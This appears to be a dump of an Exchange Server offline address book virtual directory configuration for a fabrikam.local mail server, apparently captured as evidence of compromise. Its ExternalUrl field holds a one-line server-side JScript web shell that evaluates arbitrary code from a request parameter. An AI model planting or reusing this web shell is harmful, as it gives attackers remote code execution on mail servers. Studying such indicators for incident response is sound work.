Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExtendedProtectionTokenChecking : None
InternalUrl                     : https://mail.fabrikam.local/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["x91z"],"unsafe");}</script>
